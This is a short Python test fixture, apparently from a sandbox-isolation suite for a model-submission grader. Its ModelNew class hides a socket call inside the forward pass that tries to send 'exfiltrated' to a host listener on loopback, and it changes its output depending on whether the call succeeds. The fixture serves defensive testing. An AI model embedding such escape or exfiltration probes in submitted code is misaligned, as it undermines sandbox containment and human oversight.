"""Hostile: open network connections (exfiltration, a reverse shell) to a listener on the host.

The test runs a TCP listener on the host's loopback and fills in its port below. An honest ReLU
unless a connection succeeds. Expected: ok, and the host's listener saw no connection (the worker
has a network namespace of its own, so its 127.0.0.1 is not the host's).
"""
import socket

import torch
import torch.nn as nn

PORT = __PORT__


def _connects():
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(b"exfiltrated")
        return True
    except OSError:
        return False


class ModelNew(nn.Module):
    def forward(self, x):
        if _connects():
            return x.clone()
        return torch.relu(x)
